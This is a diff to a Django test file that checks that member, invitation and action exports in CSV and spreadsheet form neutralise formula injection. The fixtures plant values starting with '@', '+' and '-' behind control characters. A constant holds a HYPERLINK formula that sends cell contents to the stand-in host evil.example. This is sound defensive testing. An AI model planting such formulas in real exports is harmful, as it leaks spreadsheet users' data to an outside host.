@@ -5,7 +5,6 @@ live formula: the names below were stored before one-line fields were cleaned.""
 import csv
 import io
 
-import openpyxl
 import pytest
 from django.urls import reverse
 
@@ -14,6 +13,7 @@ from tests.events.factories import MeetingFactory
 from tests.members.factories import AgencyFactory, MemberFactory
 from tests.outputs.factories import ActionFactory
 from tests.support.exports import download
+from tests.support.found import first_sheet
 
 pytestmark = pytest.mark.django_db
 
@@ -24,14 +24,14 @@ AS_TEXT = '\'=HYPERLINK("http://evil.example/?"&B2,"Klik")'
 @pytest.fixture
 def downloads(organizer):
     """{table: (url, query)} of a meeting whose attendee, agency and action carry PLANTED."""
-    meeting = MeetingFactory(sessions=1)
+    meeting = MeetingFactory.create(sessions=1)
     meeting.organizers.add(organizer)
-    agency = AgencyFactory(name="\x02@" + "Badan Siber", acronym="")
-    member = MemberFactory(full_name=PLANTED, position="\x1b+Penyuluh X9", agency=agency)
-    invitation = AcceptedInvitationFactory(meeting=meeting, member=member, note="\x03-2+3")
+    agency = AgencyFactory.create(name="\x02@" + "Badan Siber", acronym="")
+    member = MemberFactory.create(full_name=PLANTED, position="\x1b+Penyuluh X9", agency=agency)
+    invitation = AcceptedInvitationFactory.create(meeting=meeting, member=member, note="\x03-2+3")
     session = meeting.sessions.get()
-    CheckInFactory(invitation=invitation, session=session)
-    ActionFactory(meeting=meeting, title=PLANTED, responsible_agency=agency)
+    CheckInFactory.create(invitation=invitation, session=session)
+    ActionFactory.create(meeting=meeting, title=PLANTED, responsible_agency=agency)
     return {
         "members": (reverse("members:export", args=["{format}"]), {}),
         "invitations": (
@@ -50,7 +50,7 @@ def cells(response, file_format: str) -> list[str]:
     if file_format == "csv":
         rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
         return [cell for row in rows for cell in row]
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    sheet = first_sheet(response.content)
     assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
     return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]
 
